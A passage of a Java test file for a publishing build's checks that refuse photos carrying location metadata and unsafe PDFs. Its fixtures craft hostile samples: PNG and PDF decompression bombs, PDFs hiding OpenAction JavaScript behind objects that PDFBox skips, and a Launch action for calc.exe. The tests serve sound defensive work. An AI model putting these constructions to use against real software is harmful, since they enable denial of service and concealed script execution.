        java.nio.ByteBuffer iim = java.nio.ByteBuffer.allocate(5 + city.length);
        iim.put((byte) 0x1C).put((byte) 2).put((byte) 90).putShort((short) city.length).put(city);
        f.writeBytes(DIR + "city.png", withChunk(png, "tEXt", raw("iptc", iim.array())));
        // ImageMagick also copies each field into a text of its own, named for it (an attacker's trial: its eXIf removed, these were published).
        f.writeBytes(DIR + "texts.png", withChunk(png, "tEXt", "exif:GPSLatitude\u000051/1, 30/1, 0/1".getBytes(StandardCharsets.ISO_8859_1)));
        // Its texts of GPS fields that say no place pass, as the EXIF they come from does (a reviewer's trial, with ImageMagick 6.9).
        byte[] made = withChunk(png, "tEXt", "exif:Make\u0000Canon".getBytes(StandardCharsets.ISO_8859_1));
        made = withChunk(made, "tEXt", "exif:GPSVersionID\u00002, 2, 0, 0".getBytes(StandardCharsets.ISO_8859_1));
        made = withChunk(made, "tEXt", "exif:GPSDateStamp\u00002026:11:20".getBytes(StandardCharsets.ISO_8859_1));
        f.writeBytes(DIR + "made.png", withChunk(made, "tEXt", "exif:GPSLatitudeRef\u0000N".getBytes(StandardCharsets.ISO_8859_1)));
        List<String> m = failing(f);
        has(m, DIR + "placed.png: the photo carries the place where it was taken (GPS data in its EXIF)");
        has(m, DIR + "city.png: the photo carries the place where it was taken (a place (IPTC city, state or sub-location) in its IPTC data)");
        has(m, DIR + "texts.png: the photo carries the place where it was taken (a place in its text `exif:GPSLatitude`), which readers could read"
                + " from the file (export it again without its location (e.g. exiftool -overwrite_original -all= -tagsfromfile @ -icc_profile -orientation 'texts.png'");
        assertEquals(3, m.size(), String.join("\n", m));
    }

    /** A tEXt chunk's data as ImageMagick writes a raw profile: its keyword, then the name, length and hexadecimal bytes. */
    private static byte[] raw(String kind, byte[] data) {
        StringBuilder hex = new StringBuilder();
        for (int i = 0; i < data.length; i++) {
            hex.append(String.format("%02x", data[i] & 0xFF)).append(i % 36 == 35 ? "\n" : "");
        }
        return ("Raw profile type " + kind + "\0\n" + kind + "\n" + String.format("%8d", data.length) + "\n" + hex + "\n")
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    /** A GIF of {@code frames} frames of the size given, as ImageIO writes it. */
    private static byte[] gif(int frames, int width, int height) throws IOException {
        javax.imageio.ImageWriter writer = javax.imageio.ImageIO.getImageWritersByFormatName("gif").next();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (javax.imageio.stream.ImageOutputStream ios = javax.imageio.ImageIO.createImageOutputStream(out)) {
            writer.setOutput(ios);
            writer.prepareWriteSequence(null);
            for (int i = 0; i < frames; i++) {
                java.awt.image.BufferedImage image = new java.awt.image.BufferedImage(width, height, java.awt.image.BufferedImage.TYPE_BYTE_INDEXED);
                writer.writeToSequence(new javax.imageio.IIOImage(image, null, null), null);
            }
            writer.endWriteSequence();
        }
        writer.dispose();
        return out.toByteArray();
    }

    /**
     * The place in other corners of an image's data (an attacker's re-trial): a GPS IFD inside
     * the Exif IFD, a PNG's XMP (iTXt) with a GPS position, an IPTC "location shown".
     */
    @Test
    void aPlaceAnywhereInAnImagesDataIsRefused(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![One](one.jpg)\n\n![Two](two.png)\n\n![Three](three.png)\n\n![Four](four.jpg)\n"));
        byte[] jpeg = jpeg();
        // IFD0 -> Exif IFD (34665) -> GPS IFD (34853) -> GPSAreaInformation (28), an ASCII street address.
        java.nio.ByteBuffer tiff = java.nio.ByteBuffer.allocate(8 + 18 + 18 + 18 + 20);
        tiff.put(new byte[]{'M', 'M', 0, 42}).putInt(8);
        tiff.putShort((short) 1).putShort((short) 34665).putShort((short) 4).putInt(1).putInt(26).putInt(0);
        tiff.putShort((short) 1).putShort((short) 34853).putShort((short) 4).putInt(1).putInt(44).putInt(0);
        tiff.putShort((short) 1).putShort((short) 28).putShort((short) 2).putInt(20).putInt(62).putInt(0);
        tiff.put("221B Baker Street\0\0\0".getBytes(StandardCharsets.ISO_8859_1));
        f.writeBytes(DIR + "one.jpg", withSegment(jpeg, 0xE1, exif(tiff.array())));
        // Photoshop's resources (APP13): an IPTC record 2:92, the sub-location, a street address.
        f.writeBytes(DIR + "four.jpg", withSegment(jpeg, 0xED, photoshopIptc(92, "221B Baker Street")));
        f.writeBytes(DIR + "two.png", pngWithXmp("<exif:GPSLatitude>51,30.5N</exif:GPSLatitude>"));
        f.writeBytes(DIR + "three.png", pngWithXmp("<Iptc4xmpExt:LocationShown><rdf:Bag><rdf:li rdf:parseType=\"Resource\"><Iptc4xmpExt:City>London"
                + "</Iptc4xmpExt:City></rdf:li></rdf:Bag></Iptc4xmpExt:LocationShown>"));
        List<String> m = failing(f);
        has(m, DIR + "one.jpg: the photo carries the place where it was taken (GPS data in its EXIF)");
        has(m, DIR + "two.png: the photo carries the place where it was taken (a GPS position or a place in its XMP data)");
        has(m, DIR + "three.png: the photo carries the place where it was taken (a GPS position or a place in its XMP data)");
        has(m, DIR + "four.jpg: the photo carries the place where it was taken (a place (IPTC city, state or sub-location) in its IPTC data)");
    }

    /**
     * Where the build's reading stops, it refuses (an attacker's trial: exiftool read GPS data the
     * build passed): a second image after the photo (a phone's MPF preview, or one appended), and
     * an APP1 segment that is neither EXIF nor XMP (`exif` in lower case, bytes before `Exif`); what
     * legitimate tools leave (an MPF header alone, a line end after the photo, ImageMagick's gamma
     * note in a GIF) passes.
     */
    @Test
    void imageDataTheBuildDoesNotReadIsRefused(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![One](one.jpg)\n\n![Two](two.jpg)\n\n![Three](three.jpg)\n\n"
                + "![Four](four.jpg)\n\n![Five](five.gif)\n"));
        byte[] jpeg = jpeg();
        byte[] located = withSegment(jpeg, 0xE1, exif(gpsTiff()));
        ByteArrayOutputStream two = new ByteArrayOutputStream();
        two.write(jpeg);
        two.write(located);
        f.writeBytes(DIR + "one.jpg", two.toByteArray());
        byte[] lower = exif(gpsTiff());
        lower[0] = 'e';
        f.writeBytes(DIR + "two.jpg", withSegment(jpeg, 0xE1, lower));
        // Legitimate, as a false-refusal trial found them: MPF's header alone (exiftool's -trailer:all= leaves it), a line end
        // after the photo's end, and ImageMagick's gamma note in a GIF made from PNG frames.
        f.writeBytes(DIR + "three.jpg", withSegment(jpeg, 0xE2, "MPF\0MM\0*".getBytes(StandardCharsets.ISO_8859_1)));
        f.writeBytes(DIR + "four.jpg", concat(jpeg, "\r\n".getBytes(StandardCharsets.ISO_8859_1)));
        byte[] g = gif(1, 8, 8);
        ByteArrayOutputStream noted = new ByteArrayOutputStream();
        noted.write(g, 0, g.length - 1);
        noted.write(new byte[]{0x21, (byte) 0xFF, 11});
        noted.write("ImageMagick".getBytes(StandardCharsets.ISO_8859_1));
        noted.write(13);
        noted.write("gamma=0.45455".getBytes(StandardCharsets.ISO_8859_1));
        noted.write(new byte[]{0, 0x3B});
        f.writeBytes(DIR + "five.gif", noted.toByteArray());
        List<String> m = failing(f);
        has(m, DIR + "one.jpg: its EXIF, XMP or IPTC data cannot be read (it holds another image after the photo, a preview or a depth map,");
        has(m, DIR + "two.jpg: its EXIF, XMP or IPTC data cannot be read (an APP1 segment that is neither EXIF nor XMP)");
        assertEquals(2, m.size(), String.join("\n", m));
    }

    /**
     * More corners (an attacker's second trial, each read by exiftool): a trailer after the JPEG's
     * end, an older Photoshop header, a drone's GPS property as an XMP attribute in its own
     * namespace, XMP in a GIF after its image, an IPTC city, bytes after a PNG's end.
     */
    @Test
    void moreCornersOfAnImagesDataAreRefused(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![1](one.jpg)\n\n![2](two.jpg)\n\n![3](three.jpg)\n\n![4](four.gif)\n\n"
                + "![5](five.jpg)\n\n![6](six.png)\n"));
        byte[] jpeg = jpeg();
        f.writeBytes(DIR + "one.jpg", java.nio.ByteBuffer.allocate(jpeg.length + 20).put(jpeg).put("MIE trailer, GPS 1 2".getBytes(StandardCharsets.ISO_8859_1), 0, 20).array());
        f.writeBytes(DIR + "two.jpg", withSegment(jpeg, 0xED, "Adobe_Photoshop2.5:\0\0\0".getBytes(StandardCharsets.ISO_8859_1)));
        String packet = "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description"
                + " rdf:about='' xmlns:drone-dji='http://www.dji.com/drone-dji/1.0/' drone-dji:GpsLatitude='+48.858370'/></rdf:RDF></x:xmpmeta>";
        f.writeBytes(DIR + "three.jpg", withSegment(jpeg, 0xE1, ("http://ns.adobe.com/xap/1.0/\0" + packet).getBytes(StandardCharsets.UTF_8)));
        ByteArrayOutputStream gif = new ByteArrayOutputStream();
        javax.imageio.ImageIO.write(new java.awt.image.BufferedImage(8, 8, java.awt.image.BufferedImage.TYPE_BYTE_INDEXED), "gif", gif);
        byte[] g = gif.toByteArray(); // ends with the trailer, 0x3B: an XMP application extension goes before it
        ByteArrayOutputStream withXmp = new ByteArrayOutputStream();
        withXmp.write(g, 0, g.length - 1);
        withXmp.write(new byte[]{0x21, (byte) 0xFF, 11});
        withXmp.write("XMP DataXMP".getBytes(StandardCharsets.ISO_8859_1));
        withXmp.write(new byte[]{4, 'x', 'm', 'p', '!', 0, 0x3B});
        f.writeBytes(DIR + "four.gif", withXmp.toByteArray());
        f.writeBytes(DIR + "five.jpg", withSegment(jpeg, 0xED, photoshopIptc(90, "Kyiv")));
        ByteArrayOutputStream png = new ByteArrayOutputStream();
        javax.imageio.ImageIO.write(new java.awt.image.BufferedImage(8, 8, java.awt.image.BufferedImage.TYPE_INT_RGB), "png", png);
        png.write("lat=48.85 lon=2.29".getBytes(StandardCharsets.ISO_8859_1));
        f.writeBytes(DIR + "six.png", png.toByteArray());
        List<String> m = failing(f);
        has(m, DIR + "one.jpg: its EXIF, XMP or IPTC data cannot be read (data after the image's end");
        has(m, DIR + "two.jpg: its EXIF, XMP or IPTC data cannot be read (an APP13 segment that is not Photoshop's resources");
        has(m, DIR + "three.jpg: the photo carries the place where it was taken (a GPS position or a place in its XMP data)");
        has(m, DIR + "four.gif: its EXIF, XMP or IPTC data cannot be read (an application extension (`XMP DataXMP`)");
        has(m, DIR + "five.jpg: the photo carries the place where it was taken (a place (IPTC city, state or sub-location) in its IPTC data)");
        has(m, DIR + "six.png: its EXIF, XMP or IPTC data cannot be read (data after the image's end");
    }

    /**
     * Segments and chunks the build does not read are refused, not published unread (an attacker's
     * trial: EXIF with a GPS position in a PNG chunk named `exIf`, which exiftool reads as eXIf;
     * C2PA's content credentials, whose EXIF part holds the position as JSON, in a JPEG's APP11 and
     * a PNG's caBX); Photoshop's APP12 quality note and Apple's iDOT chunk (every macOS screenshot) pass.
     */
    @Test
    void imageDataInSegmentsAndChunksTheBuildDoesNotKnowIsRefused(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![1](one.png)\n\n![2](two.png)\n\n![3](three.jpg)\n\n![4](four.jpg)\n\n"
                + "![5](five.jpg)\n\n![6](six.png)\n"));
        byte[] png = pngWithXmp("");
        byte[] credentials = "JP\0\1\0\0\0\1{\"exif:GPSLatitude\":\"51,30.06N\"}".getBytes(StandardCharsets.ISO_8859_1);
        f.writeBytes(DIR + "one.png", withChunk(png, "exIf", exif(gpsTiff())));
        f.writeBytes(DIR + "two.png", withChunk(png, "caBX", credentials));
        f.writeBytes(DIR + "three.jpg", withSegment(jpeg(), 0xEB, credentials));
        f.writeBytes(DIR + "four.jpg", withSegment(jpeg(), 0xE6, "GoPro\0GPS5 51.5 -0.12".getBytes(StandardCharsets.ISO_8859_1)));
        f.writeBytes(DIR + "five.jpg", withSegment(jpeg(), 0xEC, "Ducky\0\1\0\4\0\0\0\120".getBytes(StandardCharsets.ISO_8859_1)));
        f.writeBytes(DIR + "six.png", withChunk(png, "iDOT", new byte[28]));
        List<String> m = failing(f);
        has(m, DIR + "one.png: its EXIF, XMP or IPTC data cannot be read (a chunk `exIf`, whose data the build does not read");
        has(m, DIR + "two.png: its EXIF, XMP or IPTC data cannot be read (a chunk `caBX`, whose data the build does not read");
        has(m, DIR + "three.jpg: its EXIF, XMP or IPTC data cannot be read (an APP11 segment (`JP`), whose data the build does not read");
        has(m, DIR + "four.jpg: its EXIF, XMP or IPTC data cannot be read (an APP6 segment (`GoPro`), whose data the build does not read");
        assertTrue(m.stream().noneMatch(l -> l.startsWith(DIR + "five.jpg") || l.startsWith(DIR + "six.png")), String.join("\n", m));
        assertEquals(4, m.size(), String.join("\n", m));
    }

    /** A small plain JPEG (with its JFIF segment), as ImageIO writes it. */
    private static byte[] jpeg() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        javax.imageio.ImageIO.write(new java.awt.image.BufferedImage(64, 48, java.awt.image.BufferedImage.TYPE_INT_RGB), "jpeg", out);
        return out.toByteArray();
    }

    /** EXIF's TIFF structure whose IFD0 points at a GPS IFD holding a latitude (three rationals). */
    private static byte[] gpsTiff() {
        java.nio.ByteBuffer tiff = java.nio.ByteBuffer.allocate(68);
        tiff.put(new byte[]{'M', 'M', 0, 42}).putInt(8);
        tiff.putShort((short) 1).putShort((short) 0x8825).putShort((short) 4).putInt(1).putInt(26).putInt(0);
        tiff.putShort((short) 1).putShort((short) 2).putShort((short) 5).putInt(3).putInt(44).putInt(0);
        tiff.putInt(50).putInt(1).putInt(27).putInt(1).putInt(0).putInt(1);
        return tiff.array();
    }

    /** EXIF's TIFF structure whose GPS IFD holds its version (2.2) and a void status (`V`), as a phone without a fix writes it. */
    private static byte[] voidGpsTiff() {
        java.nio.ByteBuffer tiff = java.nio.ByteBuffer.allocate(56);
        tiff.put(new byte[]{'M', 'M', 0, 42}).putInt(8);
        tiff.putShort((short) 1).putShort((short) 0x8825).putShort((short) 4).putInt(1).putInt(26).putInt(0);
        tiff.putShort((short) 2).putShort((short) 0).putShort((short) 1).putInt(4).put(new byte[]{2, 2, 0, 0});
        tiff.putShort((short) 9).putShort((short) 2).putInt(2).put(new byte[]{'V', 0, 0, 0}).putInt(0);
        return tiff.array();
    }

    /** An APP13 payload: Photoshop's resources holding one IPTC record 2:{@code dataset} (92 the sub-location, 90 the city). */
    private static byte[] photoshopIptc(int dataset, String value) {
        byte[] text = value.getBytes(StandardCharsets.ISO_8859_1);
        java.nio.ByteBuffer iptc = java.nio.ByteBuffer.allocate(5 + text.length + 1);
        iptc.put((byte) 0x1C).put((byte) 2).put((byte) dataset).putShort((short) text.length).put(text);
        java.nio.ByteBuffer irb = java.nio.ByteBuffer.allocate(14 + 4 + 2 + 2 + 4 + iptc.capacity());
        irb.put("Photoshop 3.0\0".getBytes(StandardCharsets.ISO_8859_1)).put("8BIM".getBytes(StandardCharsets.ISO_8859_1))
                .putShort((short) 0x0404).putShort((short) 0).putInt(iptc.capacity() - 1).put(iptc.array());
        return irb.array();
    }

    /** An APP1 segment's payload of EXIF data: "Exif", two zero bytes, then the TIFF structure. */
    private static byte[] exif(byte[] tiff) {
        byte[] payload = new byte[6 + tiff.length];
        System.arraycopy(new byte[]{'E', 'x', 'i', 'f', 0, 0}, 0, payload, 0, 6);
        System.arraycopy(tiff, 0, payload, 6, tiff.length);
        return payload;
    }

    /** The JPEG with a segment (marker 0xFFxx, then its length and payload) after its JFIF segment, which ImageIO wants first. */
    /** A TIFF directory of one entry, the orientation (EXIF's 0x0112). */
    private static byte[] orientation(int value) {
        java.nio.ByteBuffer tiff = java.nio.ByteBuffer.allocate(26);
        tiff.put(new byte[]{'M', 'M', 0, 42}).putInt(8).putShort((short) 1).putShort((short) 0x0112).putShort((short) 3).putInt(1)
                .putShort((short) value).putShort((short) 0).putInt(0);
        return tiff.array();
    }

    private static byte[] withSegment(byte[] jpeg, int marker, byte[] payload) {
        int app0 = 4 + ((jpeg[4] & 0xFF) << 8 | (jpeg[5] & 0xFF));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(jpeg, 0, app0);
        out.write(0xFF);
        out.write(marker);
        out.write((2 + payload.length) >> 8);
        out.write(2 + payload.length);
        out.write(payload, 0, payload.length);
        out.write(jpeg, app0, jpeg.length - app0);
        return out.toByteArray();
    }

    /**
     * Compressed PNG chunks are unpacked only so far (an attacker's trial: a 3 MB zTXt chunk
     * unpacked to 3 GB in the JDK's reader and ran the build out of memory): a text chunk, a
     * compressed iTXt and a colour profile that unpack past 8 MB are refused; a small one is read.
     */
    @Test
    void aPngWhoseDataUnpacksTooFarIsRefused(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![1](one.png)\n\n![2](two.png)\n\n![3](three.png)\n\n![4](four.png)\n"));
        byte[] png = pngWithXmp("");
        byte[] bomb = deflate(new byte[20 << 20]);
        f.writeBytes(DIR + "one.png", withChunk(png, "zTXt", concat("Comment\0\0".getBytes(StandardCharsets.ISO_8859_1), bomb)));
        f.writeBytes(DIR + "two.png", withChunk(png, "iTXt", concat("Comment\0\1\0en\0\0".getBytes(StandardCharsets.ISO_8859_1), bomb)));
        f.writeBytes(DIR + "three.png", withChunk(png, "iCCP", concat("ICC\0\0".getBytes(StandardCharsets.ISO_8859_1), bomb)));
        f.writeBytes(DIR + "four.png", withChunk(png, "zTXt", concat("Comment\0\0".getBytes(StandardCharsets.ISO_8859_1),
                deflate("Made in a newsroom.".getBytes(StandardCharsets.ISO_8859_1)))));
        List<String> m = failing(f);
        for (String name : List.of("one", "two", "three")) {
            has(m, DIR + name + ".png: its text and colour profile data unpack to more than 8 MB (export it again without its metadata");
        }
        assertTrue(m.stream().noneMatch(l -> l.startsWith(DIR + "four.png")), String.join("\n", m));
    }

    private static byte[] deflate(byte[] bytes) {
        java.util.zip.Deflater deflater = new java.util.zip.Deflater(9);
        deflater.setInput(bytes);
        deflater.finish();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[1 << 16];
        while (!deflater.finished()) {
            out.write(buffer, 0, deflater.deflate(buffer));
        }
        deflater.end();
        return out.toByteArray();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        return java.nio.ByteBuffer.allocate(a.length + b.length).put(a).put(b).array();
    }

    /** {@code png} with a chunk of this type and data before its IEND chunk (the last 12 bytes). */
    private static byte[] withChunk(byte[] png, String type, byte[] data) {
        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
        crc.update(type.getBytes(StandardCharsets.ISO_8859_1));
        crc.update(data);
        return java.nio.ByteBuffer.allocate(png.length + 12 + data.length).put(png, 0, png.length - 12).putInt(data.length)
                .put(type.getBytes(StandardCharsets.ISO_8859_1)).put(data).putInt((int) crc.getValue()).put(png, png.length - 12, 12).array();
    }

    /** A PNG whose XMP packet (an iTXt chunk, as Photoshop writes it) holds {@code property}. */
    private static byte[] pngWithXmp(String property) throws IOException {
        java.awt.image.BufferedImage image = new java.awt.image.BufferedImage(64, 48, java.awt.image.BufferedImage.TYPE_INT_RGB);
        javax.imageio.ImageWriter writer = javax.imageio.ImageIO.getImageWritersByFormatName("png").next();
        javax.imageio.metadata.IIOMetadata metadata = writer.getDefaultImageMetadata(
                javax.imageio.ImageTypeSpecifier.createFromRenderedImage(image), null);
        String xmp = "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">"
                + "<rdf:Description rdf:about=\"\" xmlns:exif=\"http://ns.adobe.com/exif/1.0/\""
                + " xmlns:Iptc4xmpExt=\"http://iptc.org/std/Iptc4xmpExt/2008-02-29/\">" + property + "</rdf:Description></rdf:RDF></x:xmpmeta>";
        javax.imageio.metadata.IIOMetadataNode entry = new javax.imageio.metadata.IIOMetadataNode("iTXtEntry");
        entry.setAttribute("keyword", "XML:com.adobe.xmp");
        entry.setAttribute("compressionFlag", "FALSE");
        entry.setAttribute("compressionMethod", "0");
        entry.setAttribute("languageTag", "");
        entry.setAttribute("translatedKeyword", "");
        entry.setAttribute("text", xmp);
        javax.imageio.metadata.IIOMetadataNode itxt = new javax.imageio.metadata.IIOMetadataNode("iTXt");
        itxt.appendChild(entry);
        javax.imageio.metadata.IIOMetadataNode root = new javax.imageio.metadata.IIOMetadataNode("javax_imageio_png_1.0");
        root.appendChild(itxt);
        metadata.mergeTree("javax_imageio_png_1.0", root);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (javax.imageio.stream.ImageOutputStream stream = javax.imageio.ImageIO.createImageOutputStream(out)) {
            writer.setOutput(stream);
            writer.write(new javax.imageio.IIOImage(image, null, metadata));
        }
        writer.dispose();
        return out.toByteArray();
    }

    /**
     * Objects laid out by hand (an attacker's re-trial): PDFBox skips an object it cannot parse
     * (`/Pad 1.2.3.4`, `/Pad ]`), which a viewer still reads, JavaScript and all; a cross-reference
     * stream of two billion entries in 2 MB claimed 2 GB of the build's memory. Both refused, the
     * second by the reader's own bounded JVM, and the next file is still read.
     */
    @Test
    void aPdfTheBuildCannotReadWholeIsRefused(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp, "badnum.pdf", "unbalanced.pdf", "bomb.pdf", "after.pdf", "halfread.pdf");
        // PDFBox reads this catalog only up to `endobj`, without complaint; a viewer reads on to the OpenAction.
        f.writeBytes(DIR + "halfread.pdf", laidOut(java.util.Map.of(1, "<< /Type /Catalog /Pages 2 0 R /X endobj /OpenAction"
                + " << /S /JavaScript /JS (app.alert(1)) >> >>")));
        for (String pad : List.of("1.2.3.4", "]")) {
            f.writeBytes(DIR + (pad.equals("]") ? "unbalanced.pdf" : "badnum.pdf"), laidOut(java.util.Map.of(
                    1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", 4, "<< /S /JavaScript /JS (app.alert(1)) /Pad " + pad + " >>")));
        }
        ByteArrayOutputStream bomb = new ByteArrayOutputStream();
        StringBuilder objects = new StringBuilder("%PDF-1.7\n");
        java.util.Map<Integer, String> base = base();
        for (int n : new java.util.TreeSet<>(base.keySet())) {
            objects.append(n).append(" 0 obj\n").append(base.get(n)).append("\nendobj\n");
        }
        ByteArrayOutputStream zipped = new ByteArrayOutputStream();
        try (java.util.zip.DeflaterOutputStream z = new java.util.zip.DeflaterOutputStream(zipped, new java.util.zip.Deflater(9))) {
            byte[] zeros = new byte[10_000_000];
            for (int i = 0; i < 200; i++) {
                z.write(zeros);
            }
        }
        int xref = objects.length();
        bomb.write(objects.toString().getBytes(StandardCharsets.ISO_8859_1));
        bomb.write(("4 0 obj\n<< /Type /XRef /Size 2000000000 /W [1 0 0] /Index [0 2000000000] /Root 1 0 R /Filter /FlateDecode /Length "
                + zipped.size() + " >>\nstream\n").getBytes(StandardCharsets.ISO_8859_1));
        bomb.write(zipped.toByteArray());
        bomb.write(("\nendstream\nendobj\nstartxref\n" + xref + "\n%%EOF\n").getBytes(StandardCharsets.ISO_8859_1));
        f.writeBytes(DIR + "bomb.pdf", bomb.toByteArray());
        f.writeBytes(DIR + "after.pdf", laidOut(java.util.Map.of(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                4, "<< /S /Launch /F (calc.exe) >>")));
        long start = System.nanoTime();
        Build.Result r = f.buildWith("explainers.pdfSeconds", "8"); // 30 s by default
        assertFalse(r.ok(), f.log());
        List<String> m = Fixture.messages(r);
        assertTrue(System.nanoTime() - start < java.util.concurrent.TimeUnit.SECONDS.toNanos(60), "bounded in time");
        has(m, DIR + "badnum.pdf: the PDF has an object the build cannot read");
        has(m, DIR + "unbalanced.pdf: the PDF has an object the build cannot read");
        has(m, DIR + "bomb.pdf: ");
        has(m, DIR + "after.pdf: the PDF has a Launch action");
        has(m, DIR + "halfread.pdf: the PDF ");
    }

    private static java.util.Map<Integer, String> base() {
        return new java.util.TreeMap<>(java.util.Map.of(1, "<< /Type /Catalog /Pages 2 0 R >>", 2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"));
    }

    /** A PDF written object by object, with its cross-reference table: {@code objects} over a one-page document's. */
    private static byte[] laidOut(java.util.Map<Integer, String> objects) {
        java.util.Map<Integer, String> all = base();
        all.putAll(objects);
        StringBuilder out = new StringBuilder("%PDF-1.7\n");
        java.util.Map<Integer, Integer> at = new java.util.TreeMap<>();
        for (var e : all.entrySet()) {
            at.put(e.getKey(), out.length());
            out.append(e.getKey()).append(" 0 obj\n").append(e.getValue()).append("\nendobj\n");
        }
        int size = java.util.Collections.max(all.keySet()) + 1;
        int xref = out.length();
        out.append("xref\n0 ").append(size).append("\n0000000000 65535 f \n");
        for (int n = 1; n < size; n++) {
            out.append(at.containsKey(n) ? String.format(java.util.Locale.ROOT, "%010d 00000 n \n", at.get(n)) : "0000000000 65535 f \n");
        }
        out.append("trailer\n<< /Size ").append(size).append(" /Root 1 0 R >>\nstartxref\n").append(xref).append("\n%%EOF\n");
        return out.toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    /** A one-page PDF with a line of text, changed by {@code change}, saved as PDFBox saves by default. */
    private static byte[] pdf(Consumer<PDDocument> change) throws IOException {
        try (PDDocument d = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage();
            d.addPage(page);
            try (PDPageContentStream text = new PDPageContentStream(d, page)) {
                text.beginText();
                text.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                text.newLineAtOffset(72, 700);
                text.showText("Sources of the explainer");
                text.endText();
            }
            change.accept(d);
            d.save(out);
            return out.toByteArray();
        }
    }

    private static PDActionURI uri(String address) {
        PDActionURI uri = new PDActionURI();
        uri.setURI(address);
        return uri;
    }

    /** A link over the first page's whole area that performs {@code action}. */
    private static void link(PDDocument d, org.apache.pdfbox.pdmodel.interactive.action.PDAction action) {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(0, 0, 600, 800));
        link.setAction(action);
        try {
            d.getPage(0).getAnnotations().add(link);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
